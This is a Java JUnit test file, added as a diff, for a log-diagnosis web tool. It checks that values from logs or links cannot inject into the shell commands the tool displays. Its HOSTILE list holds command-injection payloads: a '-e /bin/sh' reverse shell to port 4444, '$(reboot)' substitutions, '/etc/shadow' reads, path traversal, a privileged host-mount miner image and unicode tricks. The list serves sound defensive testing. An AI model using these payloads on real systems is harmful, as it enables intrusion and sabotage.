@@ -1,0 +1,506 @@
+package dev.faultbook.web;
+
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.faultbook.TestContent;
+import dev.faultbook.catalogue.Catalogue;
+import dev.faultbook.content.Entry;
+import dev.faultbook.content.ExampleLog;
+import dev.faultbook.content.Markdown;
+import dev.faultbook.content.Page;
+import dev.faultbook.diagnosis.Diagnoser;
+import dev.faultbook.language.Language;
+import dev.faultbook.report.Report;
+import dev.faultbook.report.TextReport;
+import dev.faultbook.search.KnowledgeIndex;
+import dev.faultbook.signature.CaptureType;
+import dev.faultbook.signature.LinePattern;
+import dev.faultbook.signature.Signature;
+import java.net.URLEncoder;
+import java.util.ArrayList;
+import java.util.HashMap;
+import java.util.LinkedHashMap;
+import java.util.LinkedHashSet;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.TreeSet;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.springframework.context.support.ResourceBundleMessageSource;
+import org.springframework.mock.web.MockHttpServletRequest;
+import org.springframework.mock.web.MockHttpServletResponse;
+import org.springframework.ui.ExtendedModelMap;
+import org.springframework.web.context.request.RequestContextHolder;
+import org.springframework.web.context.request.ServletRequestAttributes;
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.json.JsonMapper;
+
+/**
+ * No value of a log or a link becomes more than a part of one word of a command: every command that
+ * any door shows is its template, each variable of which is its default or a word of its type.
+ */
+class HostileValuesTests {
+  private static final List<String> HOSTILE =
+      List.of(
+          "x --privileged -v /:/host evil.example/miner:latest sh /run",
+          "x --no-preserve-root /",
+          "127.0.0.1 4444 -e /bin/sh",
+          "12 /srv/evil.deb",
+          "1 --trust-remote-code --model evil/model",
+          "x:host --privileged",
+          "-rf",
+          "--no-preserve-root",
+          "-1",
+          "..",
+          "../../../Documents",
+          "a/../../b",
+          "/",
+          "/etc/shadow",
+          "~root",
+          "$(reboot)",
+          "x$(reboot)",
+          "`reboot`",
+          "${IFS}reboot",
+          "x;reboot",
+          "x&&reboot",
+          "x|sh",
+          "x>/etc/passwd",
+          "'x",
+          "x' reboot '",
+          "\"x",
+          "x\" reboot \"",
+          "x\\",
+          "x\nreboot",
+          "x\rreboot",
+          "x\treboot",
+          "x\u0000reboot",
+          "x\u0085reboot",
+          "x\u009breboot",
+          "x\u202ereboot",
+          "x\u00a0reboot",
+          "x\u2028reboot",
+          "x\u3000reboot",
+          "n\u043ede",
+          "\uff4e\uff4f\uff44\uff45",
+          "\uff0d\uff52\uff46",
+          "\u2010\u2010privileged",
+          "node\uff11",
+          "1\u0662",
+          "*",
+          "x?",
+          "{a,b}",
+          "!x",
+          "#x",
+          "@file",
+          "=ls",
+          "[::1]$(id)",
+          "fe80::1%eth0;id",
+          "fe80::1%-x",
+          "10.0.0.1<$(id)>",
+          "2.00 GiB -v /:/host",
+          "2 --output=/etc/passwd",
+          "{{torch.install}}",
+          "{{x|$(id)}}",
+          "9".repeat(300),
+          "a".repeat(3000));
+
+  /** What a word of each type looks like, told apart from the code that lets it through. */
+  private static final Map<CaptureType, String> FORMS =
+      Map.ofEntries(
+          Map.entry(CaptureType.INT, "[0-9]{1,19}"),
+          Map.entry(CaptureType.HEX, "(?:0[xX])?[0-9a-fA-F]{1,32}"),
+          Map.entry(CaptureType.SIZE, "[0-9.]{1,39}[A-Za-z]{0,5}"),
+          Map.entry(CaptureType.VERSION, "[0-9](?:[.+_-]?[A-Za-z0-9]){0,63}"),
+          Map.entry(CaptureType.PORT, "[1-9][0-9]{0,4}"),
+          Map.entry(
+              CaptureType.HOST,
+              "(?:'?\\[)?(?!-)(?!\\S*\\.\\.)[A-Za-z0-9_:][A-Za-z0-9_.:%-]{0,252}(?:\\]'?)?"),
+          Map.entry(
+              CaptureType.DEVICE, "(?:/dev/)?(?!\\S*\\.\\.)[A-Za-z0-9_][A-Za-z0-9_.:/-]{0,127}"),
+          Map.entry(CaptureType.PATH, "(?!\\S*\\.\\.)/?[A-Za-z0-9_.][A-Za-z0-9_.+@%=,:/-]{0,254}"),
+          Map.entry(CaptureType.NAME, "(?!\\S*\\.\\.)[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}"),
+          Map.entry(CaptureType.WORD, "(?!\\S*\\.\\.)[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}"));
+
+  private static final Map<CaptureType, String> VALID =
+      Map.ofEntries(
+          Map.entry(CaptureType.INT, "76543"),
+          Map.entry(CaptureType.HEX, "0x7f"),
+          Map.entry(CaptureType.SIZE, "7 GiB"),
+          Map.entry(CaptureType.VERSION, "7.6.5"),
+          Map.entry(CaptureType.PORT, "7654"),
+          Map.entry(CaptureType.HOST, "fd00::7"),
+          Map.entry(CaptureType.DEVICE, "mlx5_7"),
+          Map.entry(CaptureType.PATH, "data7"),
+          Map.entry(CaptureType.NAME, "name_7"),
+          Map.entry(CaptureType.WORD, "word_7"));
+
+  private static final Pattern VARIABLE = Pattern.compile("\\{\\{([a-z][a-z0-9_]*)\\|(.*?)\\}\\}");
+  private static final Pattern CAPTURE =
+      Pattern.compile("(?<!\\\\)\\{([a-z][a-z0-9_]*)(?::[a-z]+)?\\}");
+  private static final Pattern FUNCTION = Pattern.compile("\\{\\{[a-z]+\\.[a-z]+\\}\\}");
+  private static final Pattern BLOCK =
+      Pattern.compile("<pre[^>]*><code[^>]*>(.*?)</code></pre>", Pattern.DOTALL);
+
+  /** Compiling a pattern takes longer than everything else. */
+  private static final Map<Key, Pattern> PATTERNS = new HashMap<>();
+
+  private record Key(String text, Map<String, CaptureType> types, boolean command) {}
+
+  private static final Catalogue CATALOGUE = new Catalogue(TestContent.shipped());
+  private static final Diagnoser DIAGNOSER = new Diagnoser(new KnowledgeIndex(CATALOGUE));
+  private static final JsonMapper JSON = JsonMapper.builder().build();
+  private static IssueMarkdown ticket;
+  private static EntryPages pages;
+
+  @BeforeAll
+  static void wire() {
+    ResourceBundleMessageSource messages = new ResourceBundleMessageSource();
+    messages.setBasename("messages");
+    messages.setDefaultEncoding("UTF-8");
+    messages.setFallbackToSystemLocale(false);
+    ticket = new IssueMarkdown(messages);
+    pages = new EntryPages(CATALOGUE, new EntryMarkdown(messages));
+  }
+
+  @AfterAll
+  static void release() {
+    RequestContextHolder.resetRequestAttributes();
+  }
+
+  static List<String> entries() {
+    return CATALOGUE.current().entries().stream().map(Entry::id).toList();
+  }
+
+  static List<String> entriesWithVariables() {
+    return CATALOGUE.current().entries().stream()
+        .filter(entry -> !commandVariables(entry).isEmpty())
+        .map(Entry::id)
+        .toList();
+  }
+
+  private static Entry entry(String id) {
+    return CATALOGUE.current().entry(id).orElseThrow();
+  }
+
+  /** Entries without a variable in a command are tried with a few values, the others with all. */
+  private static List<String> hostile(Entry entry) {
+    int at = Math.floorMod(entry.id().hashCode(), HOSTILE.size());
+    return commandVariables(entry).isEmpty() ? List.of(HOSTILE.get(0), HOSTILE.get(at)) : HOSTILE;
+  }
+
+  @ParameterizedTest
+  @MethodSource("entries")
+  void aLogBringsNothingIntoACommand(String id) {
+    Entry entry = entry(id);
+    Set<String> logs = new LinkedHashSet<>();
+    List<String> values = hostile(entry);
+    values.forEach(value -> logs.add(signaturesWith(entry, value)));
+    for (ExampleLog log : entry.logs()) {
+      logs.addAll(examplesWith(entry, log, values));
+    }
+    logs.forEach(HostileValuesTests::check);
+  }
+
+  /** One line for each pattern of the entry, with the value in the place of every capture. */
+  private static String signaturesWith(Entry entry, String value) {
+    StringBuilder log = new StringBuilder();
+    for (Signature signature : entry.signatures()) {
+      for (LinePattern pattern : signature.parts()) {
+        String line = pattern.isRegularExpression() ? "" : pattern.source();
+        line = CAPTURE.matcher(line).replaceAll(Matcher.quoteReplacement(value));
+        log.append(line.replace("...", " ").replace("\\{", "{").replace("\\}", "}")).append('\n');
+      }
+    }
+    return log.toString();
+  }
+
+  /** The example with a value for each text that its signatures captured, one at a time. */
+  private static Set<String> examplesWith(Entry entry, ExampleLog log, List<String> values) {
+    String text = new String(log.bytes(), UTF_8);
+    Set<String> commandVariables = commandVariables(entry).keySet();
+    Set<String> logs = new LinkedHashSet<>();
+    DIAGNOSER.diagnose(log.bytes()).findings().stream()
+        .filter(finding -> finding.entry() == entry)
+        .flatMap(finding -> finding.captures().entrySet().stream())
+        .filter(capture -> !capture.getValue().isBlank())
+        .forEach(
+            capture ->
+                values.stream()
+                    .limit(commandVariables.contains(capture.getKey()) ? values.size() : 3)
+                    .forEach(value -> logs.add(text.replace(capture.getValue(), value))));
+    return logs;
+  }
+
+  private static void check(String log) {
+    var diagnosis = DIAGNOSER.diagnose(log.getBytes(UTF_8));
+    if (diagnosis.findings().isEmpty()) {
+      return;
+    }
+    for (Language language : Language.values()) {
+      Report report = Report.of(diagnosis, language);
+      JsonNode json = JSON.readTree(JSON.writeValueAsString(report));
+      List<String> commands = new ArrayList<>();
+      for (JsonNode found : json.get("findings")) {
+        Entry entry = entry(found.get("entry").asString());
+        List<Pattern> templates = new ArrayList<>();
+        List<Pattern> texts = new ArrayList<>();
+        for (var remedy : entry.page(language).remedies()) {
+          templates.add(template(remedy.command().text(), types(entry)));
+          texts.add(
+              text(
+                  remedy.title() + (remedy.text().isEmpty() ? "" : ". " + remedy.text()),
+                  types(entry)));
+        }
+        for (JsonNode fix : found.get("remedies")) {
+          assertOneOf(fix.get("command").asString(), templates);
+          assertOneOf(fix.get("text").asString(), texts);
+          commands.add(fix.get("command").asString());
+        }
+        assertOneOf(
+            found.get("summary").asString(),
+            List.of(text(entry.page(language).summary(), types(entry))));
+      }
+      for (JsonNode check : json.get("checks")) {
+        String command = check.get("command").asString();
+        assertOneOf(command, apart(check.get("between")));
+        commands.add(command);
+      }
+      report.collect().forEach(step -> commands.add(step.command()));
+      checkTexts(report, language, commands);
+    }
+  }
+
+  /** The report of the command line and of curl, and the ticket, show these commands alone. */
+  private static void checkTexts(Report report, Language language, List<String> commands) {
+    String text = TextReport.of(report, language, "");
+    for (Report.Check check : report.checks()) {
+      check.command().lines().forEach(line -> assertThat(text).contains("      " + line));
+    }
+    Matcher block =
+        Pattern.compile("(?m)^```bash\\n(.*?)\\n```$", Pattern.DOTALL)
+            .matcher(ticket.of(report, language, "http://localhost"));
+    while (block.find()) {
+      assertThat(commands).contains(block.group(1));
+    }
+  }
+
+  private static List<Pattern> apart(JsonNode between) {
+    List<Pattern> templates = new ArrayList<>();
+    // Fixed words of two lines between single quotes: letters, blanks and a few marks.
+    templates.add(
+        Pattern.compile("grep -H -n -m1 -F -e '[A-Za-z :,_-]+' -e '[A-Za-z :,_-]+' \\*\\.log"));
+    Entry one = entry(between.get(0).asString());
+    Entry other = entry(between.get(1).asString());
+    for (Entry holder : List.of(one, other)) {
+      Entry from = holder == one ? other : one;
+      Map<String, CaptureType> types = types(from);
+      types.putAll(holder.captureTypes());
+      holder.apart().stream()
+          .filter(test -> test.from().equals(from.id()))
+          .forEach(test -> templates.add(template(test.command().text(), types)));
+    }
+    return templates;
+  }
+
+  @ParameterizedTest
+  @MethodSource("entries")
+  void aLinkBringsNothingIntoACommand(String id) {
+    Entry entry = entry(id);
+    for (String value : hostile(entry)) {
+      String query = query(names(entry), value);
+      for (Language language : Language.values()) {
+        ExtendedModelMap model = page(id, query, language);
+        checkPage(entry.page(language), types(entry), model);
+        checkMarkdown(entry.page(language), types(entry), markdown(id, query, language));
+      }
+    }
+  }
+
+  private static void checkPage(Page page, Map<String, CaptureType> types, ExtendedModelMap model) {
+    List<?> fixes = (List<?>) model.get("fixes");
+    for (int i = 0; i < fixes.size(); i++) {
+      var fix = (FindingView.FixView) fixes.get(i);
+      assertOneOf(fix.command(), List.of(template(page.remedies().get(i).command().text(), types)));
+      checkBlocks(fix.text(), page.remedies().get(i).text(), types);
+    }
+    List<?> parts = (List<?>) model.get("parts");
+    for (int i = 0; i < parts.size(); i++) {
+      String html = ((EntryPages.Part) parts.get(i)).html();
+      checkBlocks(html, html.isEmpty() ? "" : page.sections().get(i).markdown(), types);
+    }
+  }
+
+  private static void checkBlocks(String html, String markdown, Map<String, CaptureType> types) {
+    List<String> blocks = blocks(html);
+    List<String> templates = blocks(CodeWrapping.html(Markdown.html(markdown)));
+    assertThat(blocks).hasSameSizeAs(templates);
+    for (int i = 0; i < blocks.size(); i++) {
+      assertOneOf(blocks.get(i), List.of(template(templates.get(i), types)));
+    }
+  }
+
+  private static List<String> blocks(String html) {
+    return BLOCK.matcher(html).results().map(block -> block.group(1)).toList();
+  }
+
+  private static void checkMarkdown(Page page, Map<String, CaptureType> types, String markdown) {
+    for (Page.Section section : page.sections()) {
+      int from = markdown.indexOf("\n## " + section.heading() + "\n");
+      int to = markdown.indexOf("\n## ", from + 4);
+      String body = markdown.substring(from, to).strip();
+      assertOneOf(
+          body.replace("](http://localhost/entries/", "](entry:"),
+          List.of(text("## " + section.heading() + "\n\n" + section.markdown().strip(), types)));
+    }
+  }
+
+  @ParameterizedTest
+  @MethodSource("entriesWithVariables")
+  void aValueOfItsTypeStandsInEveryCommandThatAsksForIt(String id) {
+    Entry entry = entry(id);
+    Map<String, CaptureType> types = types(entry);
+    commandVariables(entry)
+        .forEach(
+            (name, language) -> {
+              String valid = VALID.get(types.get(name));
+              String word = valid.replace(" ", "");
+              String markdown = markdown(id, query(Set.of(name), valid), language);
+              assertThat(markdown).contains(word);
+              assertThat(markdown(id, "", language)).doesNotContain(word);
+            });
+  }
+
+  @Test
+  void aPageSaysThatItsValuesComeFromTheLink() {
+    String id = "host-compiler-unsupported";
+    assertThat(page(id, "v.max_gcc=11", Language.EN).get("filled")).isEqualTo(true);
+    assertThat(page(id, "v.max_gcc=11+/srv/evil.deb", Language.EN).get("filled")).isEqualTo(false);
+    assertThat(page(id, "v.nothing=11", Language.EN).get("filled")).isEqualTo(false);
+    assertThat(page(id, "v.torch.install=11", Language.EN).get("filled")).isEqualTo(false);
+  }
+
+  private static ExtendedModelMap page(String id, String query, Language language) {
+    ExtendedModelMap model = new ExtendedModelMap();
+    pages.entry(id, request(query, language), new MockHttpServletResponse(), model);
+    return model;
+  }
+
+  private static String markdown(String id, String query, Language language) {
+    return pages.markdown(id, request(query, language)).getBody();
+  }
+
+  private static MockHttpServletRequest request(String query, Language language) {
+    MockHttpServletRequest request = new MockHttpServletRequest("GET", "/");
+    request.setQueryString("lang=" + language.tag() + "&" + query);
+    RequestContextHolder.setRequestAttributes(new ServletRequestAttributes(request));
+    return request;
+  }
+
+  private static String query(Set<String> names, String value) {
+    String encoded = URLEncoder.encode(value, UTF_8);
+    return String.join("&", names.stream().map(name -> "v." + name + "=" + encoded).toList());
+  }
+
+  private static Set<String> names(Entry entry) {
+    Set<String> names = new TreeSet<>(types(entry).keySet());
+    names.addAll(Set.of("x", "torch.install", "driver.minimum"));
+    return names;
+  }
+
+  private static Map<String, CaptureType> types(Entry entry) {
+    Map<String, CaptureType> types = new HashMap<>(CATALOGUE.current().factTypes());
+    types.putAll(entry.captureTypes());
+    return types;
+  }
+
+  /** Variables in the commands of an entry's pages, and a language in which each stands there. */
+  private static Map<String, Language> commandVariables(Entry entry) {
+    Map<String, Language> variables = new LinkedHashMap<>();
+    entry
+        .pages()
+        .forEach(
+            (language, page) ->
+                page.remedies()
+                    .forEach(
+                        remedy ->
+                            VARIABLE
+                                .matcher(remedy.command().text())
+                                .results()
+                                .forEach(found -> variables.put(found.group(1), language))));
+    return variables;
+  }
+
+  private static void assertOneOf(String rendered, List<Pattern> templates) {
+    assertThat(templates).as(rendered).anyMatch(template -> template.matcher(rendered).matches());
+  }
+
+  /** A command, each variable its default or a word of its type. */
+  private static Pattern template(String command, Map<String, CaptureType> types) {
+    return PATTERNS.computeIfAbsent(
+        new Key(command, types, true), key -> Pattern.compile(pattern(command, types, true)));
+  }
+
+  /** A text, in which code within a sentence and indented lines are commands. */
+  private static Pattern text(String markdown, Map<String, CaptureType> types) {
+    return PATTERNS.computeIfAbsent(
+        new Key(markdown, types, false), key -> Pattern.compile(textPattern(markdown, types)));
+  }
+
+  private static String textPattern(String markdown, Map<String, CaptureType> types) {
+    StringBuilder pattern = new StringBuilder();
+    boolean fenced = false;
+    for (String line : markdown.split("\n", -1)) {
+      boolean fence = line.strip().startsWith("```");
+      if (fenced || fence || line.startsWith("    ")) {
+        pattern.append(pattern(line, types, true));
+      } else {
+        String[] spans = line.split("`", -1);
+        for (int i = 0; i < spans.length; i++) {
+          boolean quote = VARIABLE.matcher(spans[i]).matches();
+          pattern.append(i == 0 ? "" : "`");
+          pattern.append(pattern(spans[i], types, i % 2 == 1 && !quote));
+        }
+      }
+      fenced ^= fence;
+      pattern.append('\n');
+    }
+    pattern.setLength(pattern.length() - 1);
+    return pattern.toString();
+  }
+
+  private static String pattern(String text, Map<String, CaptureType> types, boolean command) {
+    StringBuilder pattern = new StringBuilder();
+    Matcher variable = VARIABLE.matcher(text);
+    int from = 0;
+    while (variable.find()) {
+      CaptureType type = types.getOrDefault(variable.group(1), CaptureType.TEXT);
+      String value =
+          command ? FORMS.get(type) : "[\\p{L}\\p{N}._:/+@\\[\\]%-][\\p{L}\\p{N}._:/+ @\\[\\]%-]*";
+      pattern.append(literal(text.substring(from, variable.start())));
+      pattern.append("(?:").append(Pattern.quote(variable.group(2)));
+      pattern.append(value == null ? "" : "|" + value).append(")");
+      from = variable.end();
+    }
+    return pattern.append(literal(text.substring(from))).toString();
+  }
+
+  /** What the program computes itself stands in one line, of a few characters. */
+  private static String literal(String text) {
+    StringBuilder pattern = new StringBuilder();
+    Matcher function = FUNCTION.matcher(text);
+    int from = 0;
+    while (function.find()) {
+      pattern.append(Pattern.quote(text.substring(from, function.start())));
+      pattern.append("[A-Za-z0-9 .:/=+_\"&;-]+");
+      from = function.end();
+    }
+    return pattern.append(Pattern.quote(text.substring(from))).toString();
+  }
+}
